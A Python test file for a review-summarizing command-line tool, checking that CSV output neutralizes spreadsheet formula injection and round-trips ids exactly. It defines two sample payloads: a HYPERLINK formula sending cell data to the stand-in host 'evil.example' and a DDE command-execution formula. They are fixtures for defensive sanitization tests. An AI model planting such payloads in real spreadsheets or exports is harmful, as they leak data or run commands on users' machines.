"""CSV output a spreadsheet opens without running anything, whose ids still join back to the
input: formulas in free text are neutralized, ids and group keys keep their exact value unless
they could execute, numbers are never touched, JSON Lines and Parquet never change, --raw-csv
writes cells as they are, and a CR or LF in a field never splits its row."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
from cli_run import read_csv, run_script, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
# Yelp business ids (about one in eight starts with "-"), numbers and other keys a spreadsheet
# would not run: each must come back exactly as it went in.
KEYS = ["-_TSaVr53qiEGqMkwyEMaQ", "-5", "+3.2", "-1e5", "-abc", "@home", "=1+1", "\t-tabbed"]
TEXT = "The chips are crunchy and salty. The bag was half empty though. I would buy them again."


def summarize(tmp_path: Path, rows: list[dict[str, object]], *args: str, output: str = "out.csv") -> Path:
    source = write_csv(tmp_path / "in.csv", rows)
    result = run_script(source, "--quiet", "--sentences", "1", *args, "-o", tmp_path / output)
    assert result.returncode == 0, result.stderr.decode()
    return tmp_path / output


def test_ids_and_group_keys_round_trip_exactly(tmp_path: Path) -> None:
    rows = [{"Id": key, "ProductId": key, "Text": TEXT} for key in KEYS]
    by_id = read_csv(summarize(tmp_path, rows, "--id-column", "ProductId"))
    assert by_id["id"].tolist() == KEYS
    by_group = read_csv(summarize(tmp_path, rows, "--group-by", "ProductId"))
    assert by_group["ProductId"].tolist() == KEYS
    # ...so the output joins back to the input.
    joined = pd.DataFrame(rows).merge(by_group, on="ProductId")
    assert len(joined) == len(KEYS)


def test_formulas_are_neutralized_in_every_text_column(tmp_path: Path) -> None:
    rows = [
        {"Id": HYPERLINK, "Text": f"{HYPERLINK} is the first sentence."},
        {"Id": DDE, "Text": f"{DDE} runs a program."},
        {"Id": "\t" + HYPERLINK, "Text": "-2+3 is what the label says."},
        {"Id": "plain", "Text": "@SUM(1) is a cell."},
        {"Id": "fine", "Text": "Fine text with = and + and @ inside."},
        {"Id": "number", "Text": "-5"},
    ]
    out = read_csv(summarize(tmp_path, rows))
    assert out["id"].tolist() == ["'" + HYPERLINK, "'" + DDE, "'\t" + HYPERLINK, "plain", "fine", "number"]
    # The sentence splitter ends a sentence at DDE's "!": its summary is the part before.
    assert out["summary"].tolist() == [
        f"'{HYPERLINK} is the first sentence.",
        "'=cmd|' /C calc'!",
        "'-2+3 is what the label says.",
        "'@SUM(1) is a cell.",
        "Fine text with = and + and @ inside.",
        "-5",
    ]
    # Group keys and each group's summary, one row per group and one per theme.
    groups = [
        {"ProductId": HYPERLINK, "Text": f"{HYPERLINK} is it."},
        {"ProductId": DDE, "Text": "=cmd|calc"},
    ]
    for flags in ([], ["--themes"]):
        out = read_csv(summarize(tmp_path, groups, "--group-by", "ProductId", *flags))
        assert out["ProductId"].tolist() == ["'" + HYPERLINK, "'" + DDE]
        assert out["summary"].tolist() == [f"'{HYPERLINK} is it.", "'=cmd|calc"]


def test_a_header_that_could_run_is_neutralized(tmp_path: Path) -> None:
    out = summarize(tmp_path, [{DDE: "a", "Text": TEXT}], "--group-by", DDE)
    assert read_csv(out).columns[0] == "'" + DDE


def test_raw_csv_writes_cells_as_they_are(tmp_path: Path) -> None:
    rows = [{"Id": HYPERLINK, "Text": f"{HYPERLINK} is the first sentence."}]
    out = read_csv(summarize(tmp_path, rows, "--raw-csv"))
    assert out["id"].tolist() == [HYPERLINK]
    assert out["summary"].tolist() == [f"{HYPERLINK} is the first sentence."]


def test_jsonl_and_parquet_are_never_changed(tmp_path: Path) -> None:
    rows = [{"Id": key, "Text": f"{HYPERLINK} is here."} for key in (HYPERLINK, "-5", "-abc")]
    lines = summarize(tmp_path, rows, output="out.jsonl").read_text().splitlines()
    assert [json.loads(line)["id"] for line in lines] == [HYPERLINK, "-5", "-abc"]
    assert {json.loads(line)["summary"] for line in lines} == {f"{HYPERLINK} is here."}
    table = pd.read_parquet(summarize(tmp_path, rows, output="out.parquet"))
    assert table["id"].tolist() == [HYPERLINK, "-5", "-abc"]
    assert set(table["summary"]) == {f"{HYPERLINK} is here."}


def test_cr_and_lf_in_fields_never_split_a_row(tmp_path: Path) -> None:
    ids = ["bare\rcr", "line\nfeed", "cr\r\nlf", "\tleading tab"]
    rows = [{"Id": key, "Text": "One sentence.\rAnother one here.\nAnd a third."} for key in ids]
    out = summarize(tmp_path, rows)
    with out.open(newline="", encoding="utf-8") as file:
        assert [row["id"] for row in csv.DictReader(file)] == ids
    assert read_csv(out)["id"].tolist() == ids
    raw = out.read_bytes()
    # Every CR or LF inside a field is inside quotes: a reader splitting lines on either is safe.
    assert all(b'"' + key.encode() + b'"' in raw for key in ids[:3])
    assert len(list(csv.reader(io.StringIO(raw.decode(), newline="")))) == len(ids) + 1
